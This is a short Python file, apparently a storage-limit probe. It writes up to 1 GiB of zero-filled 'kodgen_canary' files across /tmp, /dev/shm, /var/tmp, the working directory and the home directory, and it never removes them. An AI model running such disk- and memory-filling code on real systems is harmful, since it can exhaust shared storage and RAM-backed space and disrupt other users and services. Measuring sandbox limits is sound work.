import os


def written(most=2**30):
    total = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~")):
        try:
            for number in range(64):
                with open(f"{folder}/kodgen_canary_{number}", "wb") as file:
                    while file.tell() < 2**25 and total < most:
                        total += file.write(bytes(2**20))
        except OSError:
            continue
    return total
